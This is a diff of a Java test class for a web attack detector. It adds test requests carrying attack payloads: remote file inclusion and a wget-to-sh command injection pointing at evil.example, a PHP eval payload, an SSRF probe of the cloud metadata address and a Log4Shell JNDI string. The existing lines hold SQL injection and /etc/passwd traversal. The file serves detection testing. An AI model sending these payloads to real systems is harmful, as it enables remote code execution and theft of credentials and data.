@@ -83,7 +83,22 @@ class DetectorTest {
             request("GET", "/products/list?category_id=1+UNION+ALL+SELECT+NULL%2CNULL--").build()),
         Arguments.of(
             "mm-web-path-traversal",
-            request("GET", "/products/detail/1?id=..%2F..%2F..%2Fetc%2Fpasswd").build()));
+            request("GET", "/products/detail/1?id=..%2F..%2F..%2Fetc%2Fpasswd").build()),
+        Arguments.of(
+            "mm-web-remote-file-inclusion",
+            request("GET", "/index.php?page=http://evil.example/shell.txt%3F").build()),
+        Arguments.of(
+            "mm-web-command-injection",
+            request("GET", "/contact?name=a%3Bwget%20-q%20-O-%20evil.example%7Csh").build()),
+        Arguments.of(
+            "mm-web-php-code-injection",
+            request("GET", "/?q=eval(base64_decode(%22ZWNobyAxOw%22))").build()),
+        Arguments.of(
+            "mm-web-ssrf-metadata",
+            request("GET", "/image?src=http://169.254.169.254/latest/meta-data/").build()),
+        Arguments.of(
+            "mm-web-log4shell",
+            request("GET", "/").userAgent("${jndi:ldap://evil.example:1389/a}").build()));
   }
 
   @ParameterizedTest(name = "{0}")
